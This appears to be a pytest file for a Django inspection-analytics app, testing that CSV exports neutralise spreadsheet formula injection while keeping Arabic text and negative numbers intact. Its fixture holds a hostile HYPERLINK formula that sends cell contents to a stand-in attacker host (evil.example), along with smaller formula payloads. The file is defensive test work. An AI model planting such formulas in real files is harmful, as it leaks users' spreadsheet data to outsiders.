"""CSV formula injection (issue 11, item 16): every CSV neutralises text cells that a spreadsheet would run
(= + - @ tab CR first), without touching Arabic text or negative numbers in numeric columns. Runs on
SQLite (csv module) and, in CI's second pass, on PostgreSQL (COPY ... TO STDOUT)."""

import csv
import io
from datetime import date

import pytest
from django.db import connection

from analytics import exports
from analytics.selectors import AnalyticsFilters, findings_filtered, visits_filtered
from backend.csv_cells import csv_text_cell
from inspections.models import Answer, Finding, Visit
from tests.factories import ChecklistItemFactory, ChecklistVersionFactory, EstablishmentFactory, VisitFactory

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'


@pytest.fixture
def visit(dammam):
    version = ChecklistVersionFactory()
    item = ChecklistItemFactory(version=version, code="MASKS", severity="major")
    shop = EstablishmentFactory(
        municipality=dammam, name_ar="مطعم -الريف- @الشرقية", name_en=HOSTILE, licence_no="+966-1"
    )
    found = VisitFactory(
        establishment=shop, checklist_version=version, outcome=Visit.Outcome.VIOLATIONS, violation_count=1
    )
    Visit.objects.filter(pk=found.pk).update(lat=51.5074, lon=-0.1278)  # west of Greenwich: a negative number
    answer = Answer.objects.create(visit=found, item=item, item_code="MASKS", value="no", failed=True)
    Finding.objects.create(
        visit=found,
        answer=answer,
        establishment=shop,
        municipality=dammam,
        item_code="MASKS",
        severity="major",
        fine_sar=500,
        due_date=date(2026, 11, 10),
        opened_at=found.finished_at,
    )
    return found


def rows(response) -> list[dict]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_visits_csv_neutralises_formulas_and_keeps_numbers_and_arabic(api, leader, visit):
    (row,) = rows(api.as_user(leader).get("analytics/exports/visits.csv"))
    assert row["establishment_en"] == "'" + HOSTILE
    assert row["licence_no"] == "'+966-1"
    assert row["establishment_ar"] == "مطعم -الريف- @الشرقية"  # Arabic first: untouched
    assert float(row["lon"]) == pytest.approx(-0.1278) and row["lon"].startswith("-")
    assert row["violation_count"] == "1"


def test_findings_csv_neutralises_formulas(api, leader, visit):
    (row,) = rows(api.as_user(leader).get("analytics/exports/findings.csv"))
    assert row["establishment_en"] == "'" + HOSTILE
    assert row["licence_no"] == "'+966-1"
    assert row["fine_sar"].startswith("500")


@pytest.mark.parametrize(
    "text,expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("بقالة =النور", "بقالة =النور"),
        ("Al-Noor", "Al-Noor"),
        ("", ""),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_the_cell_rule(text, expected):
    assert csv_text_cell(text) == expected


def test_the_volunteer_rewards_csv_neutralises_usernames():
    from decimal import Decimal

    from community.selectors.volunteers import RewardRow, rewards_csv

    rows = [
        RewardRow(
            volunteer_id=1, username="@cmd", confirmed_cases=2, fines_sar=Decimal("-5.00"), reward_sar=Decimal("1.00")
        )
    ]
    (row,) = csv.DictReader(io.StringIO(rewards_csv(rows).decode("utf-8-sig")))
    assert row["username"] == "'@cmd" and row["fines_sar"] == "-5.00"


@pytest.mark.skipif(connection.vendor != "postgresql", reason="the COPY path runs on PostgreSQL only")
def test_the_copy_statement_writes_the_bytes_of_the_flat_join(leader, visit, dammam):
    # The export's COPY takes related names from memoized lateral subqueries (analytics.exports._copy_sql);
    # the same columns through the ORM's own joins, one flat SELECT, give the same bytes, on a scoped and
    # filtered queryset as the endpoints pass it.
    visits = visits_filtered(user=leader, filters=AnalyticsFilters(municipality_id=dammam.id))
    findings = findings_filtered(user=leader, filters=AnalyticsFilters())
    for queryset, columns in ((visits, exports.VISIT_COLUMNS), (findings, exports.FINDING_COLUMNS)):
        wrapped = [(name, exports._copy_wrapped(name, expression)) for name, expression in columns]
        flat, params = exports._aliased(queryset, wrapped).query.sql_with_params()
        with connection.cursor() as cursor:
            with cursor.copy(f"COPY ({flat}) TO STDOUT WITH (FORMAT csv)", params) as copy:
                expected = b"".join(bytes(data) for data in copy)
            with cursor.copy(*exports._copy_sql(queryset, columns)) as copy:
                actual = b"".join(bytes(data) for data in copy)
        assert actual == expected
        assert actual.count(b"\n") == 1 and b"HYPERLINK" in actual
